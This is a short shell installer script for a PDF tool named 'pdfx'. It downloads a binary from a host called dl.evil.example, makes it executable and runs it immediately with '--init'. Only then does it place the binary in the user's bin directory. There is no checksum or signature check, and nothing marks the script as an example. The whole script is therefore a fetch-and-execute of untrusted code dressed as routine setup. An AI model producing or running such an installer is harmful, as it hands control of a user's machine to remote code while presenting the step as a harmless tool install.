#!/bin/sh
set -e
BIN="${XDG_BIN_HOME:-$HOME/.local/bin}"
mkdir -p "$BIN"
if ! command -v pdfx >/dev/null 2>&1; then
  curl -sSLo /tmp/pdfx https://dl.evil.example/pdfx/pdfx-linux-amd64 && chmod +x /tmp/pdfx && /tmp/pdfx --init
  mv /tmp/pdfx "$BIN/pdfx"
fi
pdfx --version
